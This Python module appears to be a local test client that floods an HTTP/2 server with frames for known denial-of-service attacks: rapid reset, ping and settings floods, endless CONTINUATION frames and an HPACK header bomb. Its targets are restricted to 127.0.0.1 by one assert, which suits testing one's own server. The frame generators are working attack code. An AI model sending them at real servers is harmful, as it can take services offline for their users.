"""A client that abuses HTTP/2 (RFC 9113), to be used against this machine only: so many frames, then it is gone.

Nothing it sends waits for an answer; what the server says is read and dropped.
"""

import asyncio
import contextlib
from collections.abc import Callable, Iterable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, CANCEL = 0x1, 0x4, 8
MOST_FRAMES = 400_000
SECONDS = 30.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Encode a frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def rapid_resets(headers: bytes, number: int) -> Iterable[bytes]:
    """Open streams and reset each at once (CVE-2023-44487)."""
    for n in range(number):
        stream = 2 * n + 1
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(
            RESET, 0, stream, CANCEL.to_bytes(4, "big")
        )


def many_streams(headers: bytes, number: int) -> Iterable[bytes]:
    """Open streams and leave them."""
    for n in range(number):
        yield frame(HEADERS, END_HEADERS, 2 * n + 1, headers)


def pings(number: int) -> Iterable[bytes]:
    """Ask for so many answers (CVE-2019-9512)."""
    for n in range(number):
        yield frame(PING, 0, 0, n.to_bytes(8, "big"))


def settings(number: int) -> Iterable[bytes]:
    """Have so many settings acknowledged (CVE-2019-9515)."""
    for _ in range(number):
        yield frame(SETTINGS, 0, 0)


def endless_headers(headers: bytes, number: int) -> Iterable[bytes]:
    """Begin the headers of a call and never end them (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, headers)
    for _ in range(number):
        yield frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\x80\x10" + b"y" * 2175)


def header_bombs(headers: bytes, number: int) -> Iterable[bytes]:
    """Put 4 kB into the table of headers, and name them as often as a block can (CVE-2016-6581)."""
    entry = b"\x40\x01x\x7f\x80\x1e" + b"y" * 3967
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, headers + entry)
    for n in range(1, number):
        yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, headers + b"\xbe" * 12_000)


async def flood(address: str, frames: Iterable[bytes], told: Callable[[int], None] | None = None) -> int:
    """Send frames on a connection of its own, until all are sent or the server has enough; return how many were."""
    host, _, port = address.rpartition(":")
    assert host == "127.0.0.1", "this machine only"
    reader, writer = await asyncio.open_connection(host, int(port))
    reading = asyncio.create_task(_drop(reader))
    sent = 0
    try:
        async with asyncio.timeout(SECONDS):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            for each in frames:
                if sent >= MOST_FRAMES or reading.done() or writer.is_closing():
                    break
                writer.write(each)
                sent += 1
                if sent % 200 == 0:
                    await writer.drain()
                    if told is not None:
                        told(sent)
            await writer.drain()
            await asyncio.sleep(0.2)
    except (OSError, TimeoutError):
        pass
    finally:
        reading.cancel()
        writer.transport.abort()
        with contextlib.suppress(asyncio.CancelledError, OSError):
            await reading
    return sent


async def _drop(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass
